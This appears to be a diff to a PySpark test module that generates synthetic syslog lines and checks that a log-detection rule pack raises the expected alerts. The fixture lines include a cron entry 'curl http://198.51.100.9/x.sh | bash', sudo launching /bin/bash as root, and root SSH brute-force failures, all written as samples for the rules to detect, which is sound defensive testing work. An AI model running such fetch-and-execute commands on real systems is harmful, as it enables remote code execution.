@@ -451,6 +451,58 @@ def extract_set_pass2(spark: SparkSession, sf_dir: str) -> DataFrame:
 # ---- functions and rendering --------------------------------------------------------------------------------------
 
 
+# ---- from raw lines to alerts ---------------------------------------------------------------------------------------
+
+
+def raw_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """A log line for each event: of sshd, sudo, the kernel's firewall, cron, or haproxy, with the event's number as pid."""
+    e = load_events(spark, sf_dir)
+    head = lambda app: F.concat(F.lit("<38>1 "), F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss'Z'"), F.lit(f" host {app} "), F.col("event_id").cast("string"), F.lit(" - - "))
+    cron = F.when(F.col("event_id") % 3 == 0, "curl http://198.51.100.9/x.sh | bash").otherwise("run-parts --report /etc/cron.hourly")
+    sudo = F.when(F.col("event_id") % 2 == 0, "/bin/bash").otherwise("/usr/bin/id")
+    line = F.when(F.col("event_type") == "error", F.concat(head("sshd-session"), F.lit("Failed password for root from "), F.col("src_ip"), F.lit(" port 4242 ssh2")))
+    line = line.when(F.col("event_type") == "signup", F.concat(head("sudo"), F.lit("bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND="), sudo))
+    line = line.when(F.col("event_type") == "purchase", F.concat(head("kernel"), F.lit("[12.3] [UFW BLOCK] IN=eth0 OUT= SRC="), F.col("src_ip"), F.lit(" DST=10.0.0.1 LEN=40 PROTO=TCP SPT=4444 DPT=22 TTL=54")))
+    line = line.when(F.col("event_type") == "click", F.concat(head("CRON"), F.lit("(root) CMD ("), cron, F.lit(")")))
+    line = line.otherwise(F.concat(head("haproxy"), F.lit("Connect from "), F.col("src_ip"), F.lit(":50001 to 192.168.178.12:8006 (front/HTTP)")))
+    return e.select(line.alias("value"), F.lit("10.9.9.9").alias("source_addr"))
+
+
+def fired(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """What the standard pack finds in the lines, by the standard overrides, extraction rules and suppressions."""
+    events = ingest.normalize(raw_lines(spark, sf_dir), F.lit("2024-02-01").cast("timestamp"))
+    resolve = search.event_field(events)
+    return rl.match_rules(events, rl.shipped(), resolve, events["line"], sp.suppressed(sp.shipped(), resolve))
+
+
+DETECTED = """, hit AS (
+  SELECT event_id, event_type, '1001-ssh-brute-force' AS rule_id, 'medium' AS level FROM ev WHERE event_type = 'error'
+  UNION ALL SELECT event_id, event_type, '1004-suspicious-ssh', 'high' FROM ev WHERE event_type = 'error' AND NOT starts_with(src_ip, '10.0.')
+  UNION ALL SELECT event_id, event_type, '1002-sudo-execution', 'low' FROM ev WHERE event_type = 'signup'
+  UNION ALL SELECT event_id, event_type, '1008-sudo-privilege-escalation', 'high' FROM ev WHERE event_type = 'signup' AND event_id % 2 = 0
+  UNION ALL SELECT event_id, event_type, '1003-iptables-deny', 'low' FROM ev WHERE event_type = 'purchase'
+  UNION ALL SELECT event_id, event_type, '1006-cron-suspicious-command', 'high' FROM ev WHERE event_type = 'click' AND event_id % 3 = 0
+  UNION ALL SELECT event_id, event_type, '1012-haproxy-connect-volume', 'low' FROM ev WHERE event_type IS NULL OR event_type NOT IN ('error', 'signup', 'purchase', 'click')
+)"""
+
+
+@register("detect_rules", f"WITH {EVENTS_SQL}{DETECTED} SELECT CAST(event_id AS VARCHAR) AS event_id, rule_id, level FROM hit")
+def detect_rules(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return fired(spark, sf_dir).select(F.col("proc_id").alias("event_id"), "rule_id", "level")
+
+
+@register("detect_by_rule", f"WITH {EVENTS_SQL}{DETECTED} SELECT rule_id, count(*) AS count FROM hit GROUP BY 1")
+def detect_by_rule(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return a.group_count(fired(spark, sf_dir), "rule_id")
+
+
+@register("detect_sources", f"SELECT CASE event_type WHEN 'error' THEN 'sshd' WHEN 'signup' THEN 'sudo' WHEN 'purchase' THEN 'iptables' WHEN 'click' THEN 'cron' ELSE 'haproxy' END AS _source_type, src_ip, strftime(event_sec, '{SHOWN}') AS event_sec, CAST(event_id AS VARCHAR) AS event_id FROM (SELECT event_type, event_sec, event_id, CASE WHEN event_type IN ('signup', 'click') THEN '' ELSE src_ip END AS src_ip FROM ev)")
+def detect_sources(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Labels, addresses and times of the lines, as the event table has them."""
+    events = ingest.promote(ingest.normalize(raw_lines(spark, sf_dir), F.lit("2024-02-01").cast("timestamp")), ["src_ip"])
+    return events.select("_source_type", "src_ip", show(F.col("event_sec")).alias("event_sec"), F.col("proc_id").alias("event_id"))
+
+
 @register("sanitize_source", "SELECT DISTINCT p_type, coalesce(nullif(trim(regexp_replace(p_type, '[^A-Za-z0-9._-]', '_', 'g'), '_'), ''), 'unknown') AS label FROM part")
 def sanitize_source(spark: SparkSession, sf_dir: str) -> DataFrame:
     return spark.read.parquet(f"{sf_dir}/part.parquet").select("p_type", text.sanitize(F.col("p_type")).alias("label")).distinct()
